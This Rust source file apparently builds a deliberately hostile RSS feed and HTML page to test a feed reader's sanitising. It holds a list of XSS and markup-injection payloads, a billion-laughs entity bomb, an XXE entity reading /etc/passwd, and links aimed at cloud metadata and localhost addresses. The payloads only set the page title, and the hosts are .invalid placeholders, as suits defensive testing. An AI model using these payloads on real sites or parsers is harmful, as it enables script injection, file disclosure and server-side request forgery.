//! A feed and a page by somebody who means harm. Whatever of it runs sets the document's title to `hostile`, so that a
//! test in a browser sees it; what it would load is on addresses that lead nowhere.

use coranto_model::Millis;

use super::answer::Place;
use super::fault::Fault;
use super::request::ENTRIES;
use crate::blocks::escape;
use crate::feeds::rfc_822;

/// Elements inside each other.
const DEPTH: usize = 5_000;

/// Letters of the longest word.
const WORD: usize = 20_000;

/// Attributes of one element.
const ATTRIBUTES: usize = 2_000;

/// Markup that runs scripts, leads to them, takes the page over or reaches into the reader's network.
const MARKUP: [&str; 32] = [
    "<script>document.title='hostile'</script>",
    "<SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>document.title='hostile'</scr</script>ipt>",
    "<img src=x onerror=\"document.title='hostile'\">",
    "<img src=\"x\" onerror = document.title='hostile' alt=\"`><script>document.title='hostile'</script>\">",
    "<p onclick=\"document.title='hostile'\" onmouseover=\"document.title='hostile'\">Move here</p>",
    "<a href=\"javascript:document.title='hostile'\">The report</a>",
    "<a href=\" &#1; jAvA&#9;script&colon;document.title='hostile'\">The report, continued</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0naG9zdGlsZSc8L3NjcmlwdD4=\">The data</a>",
    "<a href=\"vbscript:msgbox(1)\" target=\"_top\" ping=\"http://hostile.invalid/\">The archive</a>",
    "<svg onload=\"document.title='hostile'\"><script>document.title='hostile'</script></svg>",
    "<svg><a xlink:href=\"javascript:document.title='hostile'\"><text y=\"20\">Here</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:document.title='hostile' /><use href=\"data:,x#y\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='hostile'&gt;\">",
    "<math href=\"javascript:document.title='hostile'\">1 &lt; 2</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='hostile'>\"></noscript>",
    "<template><script>document.title='hostile'</script></template>",
    "<iframe srcdoc=\"<script>parent.document.title='hostile'</script>\"></iframe>",
    "<object data=\"javascript:document.title='hostile'\"></object><embed src=\"//hostile.invalid/x.swf\">",
    "<details open ontoggle=\"document.title='hostile'\"><summary>More</summary></details>",
    "<video autoplay><source src=x onerror=\"document.title='hostile'\"></video>",
    "<form action=\"//hostile.invalid/\"><input name=\"password\" autofocus onfocus=\"document.title='hostile'\"></form>",
    "<form id=\"document\"><input name=\"attributes\"><input name=\"parentNode\"></form><a id=\"body\" name=\"title\"></a>",
    "<base href=\"//hostile.invalid/\"><meta http-equiv=\"refresh\" content=\"0;url=//hostile.invalid/\">",
    "<link rel=\"stylesheet\" href=\"//hostile.invalid/x.css\"><style>@import '//hostile.invalid/y.css';body{display:none}</style>",
    "<p style=\"position:fixed;inset:0;z-index:99999;background:url(//hostile.invalid/z)\">Over everything</p>",
    "<img src=\"http://169.254.169.254/latest/meta-data/\"><img src=\"http://[::ffff:127.0.0.1]:22/\"><img src=\"file:///etc/passwd\">",
    "<img srcset=\"javascript:document.title='hostile' 1x, http://0x7f000001/ 2x\" width=\"99999999\" height=\"-1\">",
    "<!--[if true]><script>document.title='hostile'</script><![endif]--><!-- --!><script>document.title='hostile'</script>",
    "<p>\u{202e}ereh ton si siht\u{2066} and it stays turned <bdo dir=\"rtl\">for ever</p>",
    "<p>z\u{335}\u{321}\u{34d}a\u{336}\u{359}\u{31a}l\u{337}\u{316}g\u{334}o\u{338} \u{200b}\u{200d}\u{feff}\u{0}\u{fffe} &#0; &#x110000; &#xd800;</p>",
    "</article></main></body></html><h1>After the end</h1><table><tr><select><option><table></select>",
];

/// Entities that stand for more of themselves, up to a thousand million.
const ENTITIES: &str = "<!DOCTYPE rss [\n<!ENTITY a \"hostile \">\n<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n\
     <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n\
     <!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n\
     <!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">\n\
     <!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">\n<!ENTITY j \"&i;&i;&i;&i;&i;&i;&i;&i;&i;&i;\">\n\
     <!ENTITY file SYSTEM \"file:///etc/passwd\">\n]>\n";

/// Entries that lead nowhere good, without a page of ours.
const LINKS: [&str; 5] = [
    "javascript:document.title='hostile'",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "data:text/html,<script>document.title='hostile'</script>",
    "http://user:password@hostile.invalid:99999/\u{202e}",
];

/// The feed. Its first three entries lead to the page.
pub(super) fn feed(place: &Place) -> String {
    let Place { origin, started } = place;
    let fault = Fault::Hostile;
    let mut items: String = (1..=ENTRIES)
        .map(|number| {
            item(
                &format!("Hostile {number} {}", MARKUP.get(number).copied().unwrap_or_default()),
                &format!("{origin}/{fault}/page/{number}"),
                &rfc_822(started.minus(i64::try_from(number).unwrap_or(0) * Millis::HOUR)),
                &MARKUP.concat(),
            )
        })
        .collect();
    for (number, link) in LINKS.into_iter().enumerate() {
        items.push_str(&item(
            &format!("Hostile link {number} \u{202e}\u{2066}"),
            link,
            "Fri, 31 Feb 9999 25:61:61 +9999",
            &nested(),
        ));
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{ENTITIES}\
         <?xml-stylesheet type=\"text/xsl\" href=\"//hostile.invalid/x.xsl\"?>\n<rss version=\"2.0\"><channel>\n\
         <title>The Hostile Post {}</title>\n<link>javascript:document.title='hostile'</link>\n\
         <description>&j; &file;</description>\n<language>{}</language>\n<ttl>-99999999999999999999</ttl>\n{items}\
         <item><title>&j;</title><link>{origin}/{fault}/page</link><guid>{}</guid></item>\n</channel></rss>\n",
        escape("<script>document.title='hostile'</script>\u{202e}"),
        "x".repeat(1_000),
        "g".repeat(WORD),
    )
}

fn item(title: &str, link: &str, date: &str, html: &str) -> String {
    format!(
        "<item>\n<title>{}</title>\n<link>{}</link>\n<pubDate>{date}</pubDate>\n\
         <enclosure url=\"{}\" length=\"-1\" type=\"image/jpeg\"/>\n<description>{}</description>\n</item>\n",
        escape(&xml(title)),
        escape(link),
        escape(link),
        escape(&xml(html)),
    )
}

/// Without the characters that XML has no way to write: the feed is to be read, not refused.
fn xml(text: &str) -> String {
    text.replace(['\u{0}', '\u{fffe}'], "")
}

/// The page: a text worth reading between what is not.
pub(super) fn page() -> String {
    let text = "<p>The council of Port Delmere met on Tuesday and spoke about the bridge for three hours. Nobody expects \
                that the works begin before the spring, the engineer said, for the river is high.</p>\n";
    let between: String = MARKUP.iter().map(|markup| format!("{text}{markup}\n")).collect();
    let attributes: String = (0..ATTRIBUTES).map(|number| format!(" data-{number}=\"x\"")).collect();
    format!(
        "<!doctype html>\n<html lang=\"\u{202e}\"><head><meta charset=\"utf-8\"><title>The bridge \u{202e}is hostile</title>\n\
         <link rel=\"canonical\" href=\"javascript:document.title='hostile'\">\n\
         <meta property=\"og:image\" content=\"http://169.254.169.254/latest/meta-data/\">\n\
         <script type=\"application/ld+json\">{}\"@type\":\"NewsArticle\",\"headline\":\"</script>\n\
         </head><body><main><article><h1>The bridge of Port Delmere <script>document.title='hostile'</script></h1>\n\
         {text}{between}<p{attributes}>{}</p>\n{}{text}</article></main><plaintext><script>document.title='hostile'</script>\n",
        "{\"a\":[".repeat(DEPTH),
        "w".repeat(WORD),
        nested(),
    )
}

/// Elements inside each other, some of which a parser has to close by itself.
fn nested() -> String {
    format!("{}the deepest{}", "<div><b>".repeat(DEPTH), "</div>".repeat(DEPTH))
}
